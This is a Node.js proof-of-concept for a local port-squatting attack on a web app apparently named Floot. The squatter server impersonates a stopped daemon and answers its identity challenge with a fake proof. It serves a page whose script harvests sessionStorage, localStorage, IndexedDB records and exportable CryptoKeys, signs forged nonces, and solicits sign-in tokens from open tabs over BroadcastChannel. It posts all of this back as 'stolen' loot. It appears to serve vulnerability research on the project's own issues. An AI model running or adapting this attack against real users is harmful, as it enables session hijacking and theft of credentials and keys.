// Issue 12's and issue 36's taken-port attack, run as another local user (uid 65534): bind the dead
// daemon's port and serve whatever a signed-in tab asks for there. An identity challenge gets a made-up
// answer (the real one needs daemon.key); every request is reported; any other page runs in the
// daemon's origin now, so it copies all it can read of the tab's storage (sessionStorage, and every
// IndexedDB record, each CryptoKey tried for export in every format) and what the keys can do while it
// is loaded (sign made-up nonces: the daemon is away, so none of its own exist), asks the origin's open
// tabs for their sign-in as a new tab of the page does, and posts it all back.
// Node builtins only.
import { randomBytes } from "node:crypto";
import { createServer } from "node:http";

const port = Number(process.argv[2]);
const say = (line) => process.stdout.write(`${JSON.stringify(line)}\n`);

const page = `<!doctype html><html><head><meta charset="utf-8"><title>Floot</title></head><body><h1>Floot</h1>
<script>
const b64 = (bytes) => btoa(String.fromCharCode(...bytes)).replace(/\\+/g, "-").replace(/\\//g, "_").replace(/=+$/, "");
const done = (request) => new Promise((ok, ko) => { request.onsuccess = () => ok(request.result); request.onerror = () => ko(request.error); });
(async () => {
  const loot = { session: { ...sessionStorage }, local: { ...localStorage }, indexedDB: [], signed: [] };
  const keys = [];
  try {
    for (const { name } of await indexedDB.databases()) {
      const db = await done(indexedDB.open(name));
      for (const store of db.objectStoreNames) {
        for (const record of await done(db.transaction(store).objectStore(store).getAll())) {
          const copy = {};
          for (const [field, value] of Object.entries(record)) {
            if (!(value instanceof CryptoKey)) { copy[field] = value; continue; }
            keys.push(value);
            const exported = {};
            for (const format of ["jwk", "pkcs8", "raw"]) {
              try { exported[format] = b64(new Uint8Array(await crypto.subtle.exportKey(format, value))); }
              catch (error) { exported[format] = "refused: " + error.name; }
            }
            copy[field] = { cryptoKey: value.type, extractable: value.extractable, usages: value.usages, exported };
          }
          loot.indexedDB.push({ database: name, store, record: copy });
        }
      }
      db.close();
    }
  } catch (error) { loot.indexedDBError = String(error); }
  for (const key of keys.filter((each) => each.usages.includes("sign"))) {
    for (const sign of [{ name: "ECDSA", hash: "SHA-256" }, "HMAC"]) {
      const nonce = b64(crypto.getRandomValues(new Uint8Array(32)));
      try {
        const message = new TextEncoder().encode("floot-ui-access\\n" + location.origin + "\\n" + nonce);
        loot.signed.push({ nonce, signature: b64(new Uint8Array(await crypto.subtle.sign(sign, key, message))) });
      } catch {}
    }
  }
  // As a new tab of the origin asks its open tabs for their sign-in (ui/src/tab-sign-in.ts): all it hears.
  loot.broadcast = [];
  try {
    const channel = new BroadcastChannel("floot-sign-in");
    channel.onmessage = (event) => loot.broadcast.push(event.data);
    channel.postMessage({ type: "ask", id: "squatter" });
    await new Promise((resolve) => setTimeout(resolve, 5000));
    channel.close();
  } catch (error) { loot.broadcastError = String(error); }
  await fetch("/report", { method: "POST", body: JSON.stringify(loot) });
})();
</script></body></html>`;

const server = createServer((req, res) => {
  let body = "";
  req.on("data", (chunk) => {
    body += chunk;
  });
  req.on("end", () => {
    say({ seen: { method: req.method, url: req.url, headers: req.headers, body } });
    if (req.url === "/report" && req.method === "POST") {
      say({ stolen: JSON.parse(body) });
      res.end("ok");
    } else if (req.url === "/ui/identity" && req.method === "POST") {
      res.writeHead(200, { "content-type": "application/json" });
      res.end(JSON.stringify({ proof: randomBytes(32).toString("base64url") }));
    } else if (req.url.startsWith("/v1/")) {
      res.writeHead(503, { "content-type": "application/json" });
      res.end('{"error":{"code":"unavailable","message":"later"}}');
    } else {
      res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
      res.end(page);
    }
  });
});
server.listen(port, "127.0.0.1", () => say({ listening: server.address().port, uid: process.getuid() }));
